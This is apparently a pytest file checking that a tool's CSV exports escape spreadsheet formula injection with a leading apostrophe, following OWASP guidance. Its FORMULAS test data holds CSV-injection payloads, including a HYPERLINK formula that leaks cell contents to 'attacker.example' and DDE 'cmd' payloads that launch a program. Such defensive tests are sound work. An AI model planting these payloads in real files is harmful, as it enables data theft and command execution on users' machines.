"""CSV exports are neutralised (issue 25, finding 5): every CSV the product writes goes through
`export_table`, whose cells and column names pass `spreadsheet_cell`: text starting with = + - @ tab or
carriage return gets a leading apostrophe (OWASP's CSV injection guidance); numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from runs_support import conversation
from test_runs_report import PROJECT, judged
from typer.testing import CliRunner

from evalcore.cli.main import app
from evalcore.items.store_ops import add_conversation
from evalcore.models import Provenance, Run
from evalcore.models.common import FORMULA_STARTS, spreadsheet_cell
from evalcore.reports.table_export import export_table
from evalcore.runs.store_ops import insert_judgments
from evalcore.specs.drafts import SpecDraft
from evalcore.specs.store_ops import add_specs

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def data_rows(text: str) -> list[list[str]]:
    """The CSV's header and rows, without the '#' provenance lines."""
    lines = text.split("\n")  # not splitlines: a quoted cell may hold a carriage return
    while lines and lines[0].startswith("#"):
        lines.pop(0)
    return list(csv.reader(io.StringIO("\n".join(lines), newline="")))


def test_spreadsheet_cell_prefixes_formula_starts_and_keeps_the_rest():
    for formula in FORMULAS:
        assert spreadsheet_cell(formula) == "'" + formula
    for kept in ("plain", "a=b", "", -3, -0.25, 4, None, "'already"):
        assert spreadsheet_cell(kept) == kept


def test_export_table_neutralises_cells_and_column_names():
    df = pd.DataFrame({"name": FORMULAS, "=evil()": [1, -2, 3, -4, 5, -6], "rate": [0.5, -0.1, 0, 1, 2, 3]})
    header, *rows = data_rows(export_table(df, "csv", provenance={"run": "r1"}))
    assert header == ["name", "'=evil()", "rate"]
    assert [r[0] for r in rows] == ["'" + f for f in FORMULAS], "a carriage return stays inside its cell"
    assert [r[1] for r in rows] == ["1", "-2", "3", "-4", "5", "-6"], "numbers are not formulas"
    back = pd.read_csv(io.StringIO(export_table(df, "csv")))
    assert list(back["rate"]) == [0.5, -0.1, 0, 1, 2, 3]


@pytest.mark.parametrize("table", ["spec", "turns"])
def test_the_report_cli_writes_no_formula_from_a_spec_name(sqlite_store, table):
    store = sqlite_store
    store.create_project(PROJECT, "Formulas")
    drafts = [SpecDraft(scenario=f, given="g", when="w", then="t", category="@cat") for f in FORMULAS[:2]]
    ids = add_specs(store, PROJECT, drafts, Provenance(producer="offline"))
    add_conversation(store, PROJECT, conversation("c1", ids[0], [], [("q", "a", "SINGLE-DOC", [])]))
    rows = [("c1", "s1", 2, 1, False, "SINGLE-DOC", 0, "wrong_fact"), ("c1", "s2", 2, 3, True, None, 1, None)]
    store.start_run(PROJECT, Run(id="r1", kind="run", target="=bot", params={"project_id": PROJECT}))
    with store.write() as conn:
        insert_judgments(conn, judged("r1", rows, {"s1": ids[0], "s2": ids[1]}))
    result = CliRunner().invoke(
        app, ["report", "--run", "r1", "--by", table, "--format", "csv", "--db", store.url]
    )
    assert result.exit_code == 0, result.output
    cells = [cell for row in data_rows(result.stdout) for cell in row]
    assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS)], cells
    if table == "spec":
        assert "'" + FORMULAS[0] in cells
